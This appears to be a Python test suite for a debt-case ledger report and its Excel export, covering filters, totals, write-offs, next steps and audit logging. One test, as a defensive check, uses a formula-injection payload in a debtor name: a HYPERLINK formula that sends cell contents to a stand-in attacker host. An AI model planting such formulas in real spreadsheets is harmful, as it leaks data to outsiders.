"""The ledger (台账, ``cases.reports.ledger``) and its workbook (``cases.reports.ledger_xlsx``).

The business date is frozen at 20 March 2026. The book: a bank with a branch and a
sub-branch, and a group; four cases due 400, 100 and 10 days ago and in 20 days, with
confirmed, pending and rejected money, two handlers and one firm.
"""

from __future__ import annotations

import io
import uuid
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from sqlmodel import select

from cases.audit.models import AuditAction, AuditEntry
from cases.base import BUSINESS_TZ
from cases.board.operations import add_deadline, record_outcome
from cases.ledger.models import Payment, PaymentStatus
from cases.ledger.operations import record_payment
from cases.parties.models import Creditor, Party
from cases.plans.operations import create_plan
from cases.register.aging import AgingBucket
from cases.register.models import Case, CaseStatus
from cases.register.operations import move_stage
from cases.register.queries import SortOrder
from cases.register.stages import Action, Stage
from cases.reports.ledger import (
    LedgerFilters,
    LedgerSort,
    NextStepKind,
    creditor_choices,
    ledger_page,
    ledger_rows,
    parse_params,
    record_export,
)
from cases.reports.ledger_xlsx import COLUMNS, HEADER_ROW, write_ledger
from cases.timeline.models import Attachment
from cases.timeline.operations import log_event
from cases.users.models import LawFirm, Role, User
from cases.writeoffs import operations as writeoffs
from cases.writeoffs.models import Decision
from cases.writeoffs.reasons import WriteOffReason, checklist
from tests.factories import valid_ric

D = Decimal
TODAY = date(2026, 3, 20)


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(datetime(2026, 3, 20, 10, 0, tzinfo=BUSINESS_TZ), tick=False):
        yield


def claim(principal: str, days_overdue: int, ref: str | None = None) -> dict:
    return {
        "contract_ref": ref or f"HT-{uuid.uuid4().hex[:8]}",
        "contract_title": "借款合同",
        "kind": "loan",
        "principal": principal,
        "due_date": (TODAY - timedelta(days=days_overdue)).isoformat(),
    }


@dataclass
class Book:
    bank: Creditor
    branch: Creditor
    sub_branch: Creditor
    group: Creditor
    alice: User  # legal, handler of old and mid
    bob: User  # legal, handler of recent and future
    finance: User
    boss: User  # management
    firm: LawFirm
    old: Case  # the bank itself, 400 days overdue
    mid: Case  # the branch, 100 days, engaged to the firm
    recent: Case  # the sub-branch, 10 days, litigation
    future: Case  # the group, due in 20 days

    @property
    def cases(self) -> list[Case]:
        return [self.old, self.mid, self.recent, self.future]


@pytest.fixture
def book(session, make_user, make_creditor, make_case, make_firm) -> Book:
    bank = make_creditor(name=f"华信银行{uuid.uuid4().hex[:6]}", is_bank=True)
    branch = make_creditor(name=f"华信银行杭州分行{uuid.uuid4().hex[:6]}", parent_id=bank.id)
    sub = make_creditor(name=f"华信银行西湖支行{uuid.uuid4().hex[:6]}", parent_id=branch.id)
    group = make_creditor(name=f"鼎泰集团{uuid.uuid4().hex[:6]}")
    alice = make_user(Role.LEGAL, name="张法务")
    bob = make_user(Role.LEGAL, name="李法务")
    finance = make_user(Role.FINANCE)
    boss = make_user(Role.MANAGEMENT)
    firm = make_firm("金杜测试律师事务所")
    with time_machine.travel(datetime(2026, 1, 2, 9, 0, tzinfo=BUSINESS_TZ), tick=False):
        old = make_case(
            actor=alice,
            creditor=bank,
            handler_id=alice.id,
            claims=[claim("60000.05", 400), claim("40000.05", 200)],
        )
        mid = make_case(
            actor=alice,
            creditor=branch,
            handler_id=alice.id,
            firm=firm,
            claims=[claim("50000.20", 100)],
        )
        recent = make_case(
            actor=bob, creditor=sub, handler_id=bob.id, claims=[claim("20000.30", 10)]
        )
        future = make_case(
            actor=bob, creditor=group, handler_id=bob.id, claims=[claim("80000.40", -20)]
        )
    session.info["actor_id"] = finance.id
    record_payment(
        session,
        finance,
        old,
        {"received_on": "2026-03-01", "amount": "30000.05", "payer": "债务人"},
    )
    session.info["actor_id"] = alice.id
    reported = record_payment(
        session, alice, old, {"received_on": "2026-03-02", "amount": "10000", "payer": "债务人"}
    )
    assert reported.status == PaymentStatus.PENDING  # not counted until finance confirms it
    session.add(
        Payment(
            case_id=mid.id,
            received_on=date(2026, 3, 3),
            amount=D("5000"),
            payer="债务人",
            status=PaymentStatus.REJECTED,
            rejected_reason="查无此款",
        )
    )
    session.info["actor_id"] = bob.id
    move_stage(session, bob, recent, Action.ACCEPT)
    move_stage(session, bob, recent, Action.SUE)
    session.commit()
    return Book(bank, branch, sub, group, alice, bob, finance, boss, firm, old, mid, recent, future)


def page_of(session, actor, **filters):
    return ledger_page(session, actor, LedgerFilters(**filters), on=TODAY)


def numbers(page) -> list[str]:
    return [row.number for row in page.rows]


# ---- the columns ------------------------------------------------------------------------------


def test_a_row_shows_money_dates_and_people(session, book):
    page = page_of(session, book.boss, q=book.old.number)
    [row] = page.rows
    assert (row.number, row.creditor_name, row.branch_name) == (
        book.old.number,
        book.bank.name,
        None,  # registered to the bank itself
    )
    assert row.principal == D("100000.10")
    assert row.recovered == D("30000.05")  # the pending report does not count
    assert row.balance == D("70000.05")
    assert row.due_date == TODAY - timedelta(days=400)  # the earliest due date
    assert (row.overdue_days, row.aging) == (400, AgingBucket.YEARS_1_2)
    assert (row.handler_name, row.firm_name) == ("张法务", None)
    assert (row.stage, row.status) == (Stage.INTAKE, CaseStatus.ACTIVE)
    assert row.written_off_amount is None


def test_branches_show_under_the_top_of_their_creditors_tree(session, book):
    [mid] = page_of(session, book.boss, q=book.mid.number).rows
    [recent] = page_of(session, book.boss, q=book.recent.number).rows
    assert (mid.creditor_name, mid.branch_name) == (book.bank.name, book.branch.name)
    assert (recent.creditor_name, recent.branch_name) == (book.bank.name, book.sub_branch.name)
    assert mid.firm_name == "金杜测试律师事务所"
    assert mid.recovered == D("0.00")  # rejected money never counts
    assert (recent.stage, recent.overdue_days, recent.aging) == (
        Stage.LITIGATION,
        10,
        AgingBucket.DAYS_0_30,
    )
    [future] = page_of(session, book.boss, q=book.future.number).rows
    assert (future.overdue_days, future.aging) == (0, AgingBucket.NOT_DUE)


def test_creditor_choices_list_each_branch_under_its_parent(session, book):
    choices = [(i, depth) for i, _name, depth in creditor_choices(session)]
    at = {i: n for n, (i, _d) in enumerate(choices)}
    assert (book.bank.id, 0) in choices
    assert (book.branch.id, 1) in choices
    assert (book.sub_branch.id, 2) in choices
    assert (book.group.id, 0) in choices
    assert at[book.bank.id] < at[book.branch.id] < at[book.sub_branch.id]


# ---- filters, sort, paging, totals ----------------------------------------------------------


def test_a_creditor_filter_takes_its_branches_along(session, book):
    mine = {c.number for c in book.cases}
    by_bank = {r.number for r in page_of(session, book.boss, creditor_id=book.bank.id).rows}
    assert by_bank & mine == {book.old.number, book.mid.number, book.recent.number}
    by_branch = {r.number for r in page_of(session, book.boss, creditor_id=book.branch.id).rows}
    assert by_branch == {book.mid.number, book.recent.number}
    by_sub = numbers(page_of(session, book.boss, creditor_id=book.sub_branch.id))
    assert by_sub == [book.recent.number]


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"stage": Stage.LITIGATION}, {"recent"}),
        ({"aging": AgingBucket.YEARS_1_2}, {"old"}),
        ({"aging": AgingBucket.DAYS_91_180}, {"mid"}),
        ({"aging": AgingBucket.NOT_DUE}, {"future"}),
        ({"status": CaseStatus.ACTIVE}, {"old", "mid", "recent", "future"}),
    ],
    ids=["stage", "aging-1-2y", "aging-91-180", "aging-not-due", "status"],
)
def test_filters_like_the_case_list(session, book, filters, expected):
    page = page_of(session, book.boss, **filters)
    mine = {getattr(book, name).number: name for name in ("old", "mid", "recent", "future")}
    assert {mine[r.number] for r in page.rows if r.number in mine} == expected


def test_handler_firm_and_search_filters(session, book):
    assert set(numbers(page_of(session, book.boss, handler_id=book.alice.id))) == {
        book.old.number,
        book.mid.number,
    }
    assert numbers(page_of(session, book.boss, firm_id=book.firm.id)) == [book.mid.number]
    name = session.get(Party, book.recent.debtor_id).name
    assert numbers(page_of(session, book.boss, q=name)) == [book.recent.number]
    assert numbers(page_of(session, book.boss, q=book.future.number.lower())) == [
        book.future.number
    ]


def test_sort_by_overdue_days_and_by_balance(session, book):
    def order(sort, direction):
        page = page_of(session, book.boss, sort=sort, order=direction)
        mine = {c.number for c in book.cases}
        return [r.number for r in page.rows if r.number in mine]

    b = book
    assert order(LedgerSort.OVERDUE, SortOrder.DESC)[:3] == [
        b.old.number,
        b.mid.number,
        b.recent.number,
    ]
    assert order(LedgerSort.OVERDUE, SortOrder.ASC)[-3:] == [
        b.recent.number,
        b.mid.number,
        b.old.number,
    ]
    # balances: future 80000.40, old 70000.05, mid 50000.20, recent 20000.30
    assert order(LedgerSort.BALANCE, SortOrder.DESC) == [
        b.future.number,
        b.old.number,
        b.mid.number,
        b.recent.number,
    ]
    assert order(LedgerSort.BALANCE, SortOrder.ASC) == [
        b.recent.number,
        b.mid.number,
        b.old.number,
        b.future.number,
    ]


def test_totals_cover_every_filtered_case_not_just_the_page(session, book):
    filters = LedgerFilters(creditor_id=book.bank.id)  # old, mid and recent
    first = ledger_page(session, book.boss, filters, 1, page_size=2, on=TODAY)
    second = ledger_page(session, book.boss, filters, 2, page_size=2, on=TODAY)
    assert (len(first.rows), len(second.rows), first.pages, second.page) == (2, 1, 2, 2)
    for page in (first, second):
        totals = page.totals
        assert totals.count == 3
        assert totals.principal == D("100000.10") + D("50000.20") + D("20000.30")  # exact
        assert totals.recovered == D("30000.05")
        assert totals.balance == D("70000.05") + D("50000.20") + D("20000.30")
    assert {r.number for r in first.rows + second.rows} == {
        book.old.number,
        book.mid.number,
        book.recent.number,
    }
    # a page past the end is clamped to the last one
    assert ledger_page(session, book.boss, filters, 9, page_size=2, on=TODAY).page == 2


def test_totals_are_exact_to_the_fen(session, make_case, make_creditor, make_user):
    creditor = make_creditor()
    boss = make_user(Role.MANAGEMENT)
    for _ in range(30):  # 0.1 + 0.2 … in floating point would not add up
        make_case(creditor=creditor, claims=[claim("0.10", 5), claim("0.20", 5)])
    totals = page_of(session, boss, creditor_id=creditor.id).totals
    assert (totals.count, totals.principal, totals.balance) == (30, D("9.00"), D("9.00"))


def test_the_default_page_holds_fifty_rows(session, make_case, make_creditor, make_user):
    creditor = make_creditor()
    boss = make_user(Role.MANAGEMENT)
    for _ in range(51):
        make_case(creditor=creditor)
    first = page_of(session, boss, creditor_id=creditor.id)
    assert (len(first.rows), first.pages, first.total) == (50, 2, 51)
    last = ledger_page(session, boss, LedgerFilters(creditor_id=creditor.id), 2, on=TODAY)
    assert len(last.rows) == 1


def test_counsel_would_see_only_their_firms_cases(session, book, make_user):
    counsel = make_user(Role.COUNSEL, firm=book.firm)
    page = page_of(session, counsel)
    assert numbers(page) == [book.mid.number]
    assert page.totals.count == 1


def test_parse_params_ignores_what_it_cannot_read():
    filters, page, ignored = parse_params(
        {"stage": "nonsense", "aging": "91-180", "page": "abc", "sort": "balance", "q": " x\x00 "}
    )
    assert (filters.stage, filters.aging, filters.sort, filters.q) == (
        None,
        AgingBucket.DAYS_91_180,
        LedgerSort.BALANCE,
        "x",
    )
    assert (page, ignored) == (1, ["page", "stage"])
    assert parse_params({"page": "3", "creditor_id": ""}) == (LedgerFilters(), 3, [])


# ---- the export's rows ------------------------------------------------------------------------


def test_the_export_reads_every_row_in_the_page_order(session, book):
    filters = LedgerFilters(creditor_id=book.bank.id, sort=LedgerSort.BALANCE)
    pages = [ledger_page(session, book.boss, filters, n, page_size=1, on=TODAY) for n in (1, 2, 3)]
    rows = list(ledger_rows(session, book.boss, filters, on=TODAY, chunk=2))  # chunks of two
    assert rows == [page.rows[0] for page in pages]


# ---- stage written off, last action, next step -----------------------------------------------


def _write_off(session, book: Book, case: Case):
    def attach(key):
        row = Attachment(
            case_id=case.id,
            original_name=f"{key}.pdf",
            stored_name=uuid.uuid4().hex,
            content_type="application/pdf",
            size=1,
            sha256="0" * 64,
        )
        session.add(row)
        session.flush()
        return row.id

    reason = WriteOffReason.ENFORCEMENT_TERMINATED
    session.info["actor_id"] = book.bob.id
    application = writeoffs.create_application(
        session,
        book.bob,
        case,
        {
            "reason": reason,
            "reason_detail": "法院已裁定终结本次执行程序。",
            "legal_opinion": "建议核销，账销案存。",
            "evidence": [
                {"item": item.key, "attachment_id": attach(item.key)}
                for item in checklist(reason, "enterprise")
            ],
        },
    )
    writeoffs.submit(session, book.bob, application)
    session.info["actor_id"] = book.finance.id
    writeoffs.decide(session, book.finance, application, Decision.APPROVE)
    session.info["actor_id"] = book.boss.id
    writeoffs.decide(session, book.boss, application, Decision.APPROVE, reason="同意核销")
    session.flush()
    return application


def test_a_written_off_case_shows_the_amount_approved(session, book):
    application = _write_off(session, book, book.recent)
    [row] = page_of(session, book.boss, q=book.recent.number).rows
    assert row.stage == Stage.WRITTEN_OFF
    assert row.written_off
    assert (row.written_off_amount, row.written_off_on) == (application.amount, TODAY)
    assert row.balance == D("20000.30")  # 账销案存: still on file, still owed
    assert row.last_action.text.render() == "Stage change: Litigation → Written off"
    written = numbers(page_of(session, book.boss, stage=Stage.WRITTEN_OFF))
    assert book.recent.number in written
    assert book.old.number not in written


def test_the_last_action_is_the_latest_timeline_entry(session, book):
    [row] = page_of(session, book.boss, q=book.future.number).rows
    assert row.last_action.text.render() == "Registered: Intake"
    assert row.last_action.on == date(2026, 1, 2)
    session.info["actor_id"] = book.bob.id
    log_event(
        session,
        book.bob,
        book.future,
        {
            "kind": "contact",
            "channel": "visit",
            "occurred_at": "2026-03-18T15:00",
            "summary": "上门催收，债务人称资金紧张，" + "下月" * 40,
        },
    )
    log_event(  # logged later but happened earlier: not the last action
        session,
        book.bob,
        book.future,
        {"kind": "note", "occurred_at": "2026-03-10T09:00", "summary": "较早的备注"},
    )
    [row] = page_of(session, book.boss, q=book.future.number).rows
    assert row.last_action.on == date(2026, 3, 18)
    text = row.last_action.text.render()
    assert text.startswith("Collection contact (Visit): 上门催收，债务人称资金紧张，下月")
    assert text.endswith("…")
    assert len(text) < 100
    [old] = page_of(session, book.boss, q=book.old.number).rows
    assert old.last_action.text.render() == "Reported; awaiting finance confirmation: 10,000.00"


def test_the_next_step_is_the_nearest_deadline_installment_or_promise(session, book):
    case, bob = book.future, book.bob
    session.info["actor_id"] = bob.id

    def step():
        [row] = page_of(session, book.boss, q=case.number).rows
        s = row.next_step
        return (s.kind, s.due_on, s.text.render(), s.days_left(TODAY)) if s else None

    # a new loan case: the limitation period of its claim (due in 20 days, 3 years after)
    kind, due, text, _left = step()
    assert kind == NextStepKind.DEADLINE
    assert due.year == 2029
    assert text.startswith("Limitation")
    hearing = add_deadline(
        session,
        bob,
        case,
        {"title": "第一次开庭", "kind": "hearing", "due_on": "2026-04-15"},
    )
    assert step() == (NextStepKind.DEADLINE, date(2026, 4, 15), "Hearing: 第一次开庭", 26)
    log_event(
        session,
        bob,
        case,
        {
            "kind": "contact",
            "channel": "phone",
            "occurred_at": "2026-03-19T10:00",
            "summary": "电话催收",
            "promised_amount": "3000",
            "promised_date": "2026-04-01",
        },
    )
    assert step() == (NextStepKind.PROMISE, date(2026, 4, 1), "Promised payment of 3,000.00", 12)
    create_plan(
        session,
        bob,
        case,
        {
            "signed_on": "2026-03-19",
            "installments": [
                {"due_on": "2026-03-25", "amount": "5000"},
                {"due_on": "2026-04-25", "amount": "5000"},
            ],
        },
    )
    assert step() == (
        NextStepKind.INSTALLMENT,
        date(2026, 3, 25),
        "Installment 1 of the repayment plan: 5,000.00",
        5,
    )
    # a passed deadline added by hand stays the next step until its outcome is recorded
    passed = add_deadline(
        session, bob, case, {"title": "提交证据", "kind": "other", "due_on": "2026-03-16"}
    )
    assert step()[:2] == (NextStepKind.DEADLINE, date(2026, 3, 16))
    assert step()[3] == -4
    record_outcome(
        session,
        bob,
        case,
        {
            "deadline_kind": "custom",
            "due_on": "2026-03-16",
            "case_deadline_id": passed.id,
            "outcome": "acted",
            "note": "已按期提交",
        },
    )
    assert step()[0] == NextStepKind.INSTALLMENT
    assert hearing.id  # still open, later than the installment


# ---- the workbook ---------------------------------------------------------------------------


def _workbook(session, actor, filters=None) -> openpyxl.Workbook:
    out = io.BytesIO()
    rows = ledger_rows(session, actor, filters, on=TODAY)
    write_ledger(out, rows, on=TODAY, gettext=lambda s: s, filters_text="Filters: test")
    out.seek(0)
    return openpyxl.load_workbook(out)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "@SUM(1)", "+86 公司", "-1+1 公司"],
    ids=["equals", "at", "plus", "minus"],
)
def test_formula_like_text_is_stored_as_text(session, make_case, make_user, make_creditor, name):
    boss = make_user(Role.MANAGEMENT)
    creditor = make_creditor()
    case = make_case(
        creditor=creditor,
        debtor={"kind": "person", "name": name, "id_number": valid_ric()},
    )
    sheet = _workbook(session, boss, LedgerFilters(creditor_id=creditor.id)).active
    debtor = sheet.cell(row=HEADER_ROW + 1, column=1 + _column("Debtor"))
    assert sheet.cell(row=HEADER_ROW + 1, column=1).value == case.number
    assert debtor.data_type == "s"  # text, not a formula ("f")
    assert debtor.value == "'" + name  # text_cell's rule: a leading quote


def test_tabs_returns_and_error_lookalikes_stay_text(session, book):
    [row] = page_of(session, book.boss, q=book.old.number).rows
    odd = [
        replace(row, debtor_name="\t=1+1", handler_name="\r@SUM(1)", firm_name="#N/A"),
        replace(row, debtor_name="债务人\x01公司", handler_name="-", firm_name="=A1"),
    ]
    out = io.BytesIO()
    write_ledger(out, odd, on=TODAY, gettext=lambda s: s)
    out.seek(0)
    sheet = openpyxl.load_workbook(out).active
    cells = [
        [
            sheet.cell(row=HEADER_ROW + n, column=1 + _column(name))
            for name in ("Debtor", "Handler", "Law firm")
        ]
        for n in (1, 2)
    ]
    assert [[c.value for c in line] for line in cells] == [
        ["'\t=1+1", "'\r@SUM(1)", "#N/A"],
        ["债务人公司", "'-", "'=A1"],  # a control character a workbook cannot hold is dropped
    ]
    assert {c.data_type for line in cells for c in line} == {"s"}


def _column(header: str) -> int:
    return [c.header for c in COLUMNS].index(header)


def test_the_workbook_layout_numbers_and_dates(session, book):
    sheet = _workbook(session, book.boss, LedgerFilters(creditor_id=book.bank.id)).active
    headers = [c.value for c in sheet[HEADER_ROW]]
    assert headers == [c.header for c in COLUMNS]
    assert sheet["A1"].value == "Ledger of cases as of 2026-03-20"
    assert sheet["A2"].value == "Filters: test"
    assert sheet.freeze_panes == f"B{HEADER_ROW + 1}"
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:V{HEADER_ROW + 3}"
    assert sheet.max_row == HEADER_ROW + 3
    assert sheet.column_dimensions["D"].width == 30
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=HEADER_ROW + 1)}
    old = rows[book.old.number]
    col = {c.header: i for i, c in enumerate(COLUMNS)}
    principal = old[col["Claimed principal"]]
    assert principal.data_type == "n"
    assert principal.number_format == "#,##0.00"
    assert D(str(principal.value)) == D("100000.10")
    assert D(str(old[col["Balance outstanding"]].value)) == D("70000.05")
    due = old[col["Earliest due date"]]
    assert due.is_date
    assert due.value.date() == TODAY - timedelta(days=400)
    assert due.number_format == "yyyy-mm-dd"
    assert old[col["Overdue days"]].value == 400
    assert old[col["Aging"]].value == "1–2 years"
    assert old[col["Branch"]].value is None
    assert rows[book.mid.number][col["Branch"]].value == book.branch.name
    assert old[col["Status"]].value == "Active"
    assert old[col["Kind of next step"]].value == "Deadline"


# ---- the audit entry ------------------------------------------------------------------------


def test_an_export_is_written_to_the_audit_trail(session, book):
    filters = LedgerFilters(stage=Stage.LITIGATION, q="华信", sort=LedgerSort.OVERDUE)
    entry = record_export(session, book.boss, filters, rows=1234, on=TODAY, kind="xlsx")
    session.commit()
    stored = session.exec(select(AuditEntry).where(AuditEntry.id == entry.id)).one()
    assert (stored.actor_id, stored.action, stored.entity, stored.case_id) == (
        book.boss.id,
        AuditAction.CREATE,
        "ledger_export",
        None,
    )
    assert stored.changes == {
        "format": [None, "xlsx"],
        "filters": [None, {"q": "华信", "stage": "litigation"}],
        "sort": [None, "overdue desc"],
        "as_of": [None, "2026-03-20"],
        "rows": [None, 1234],
    }
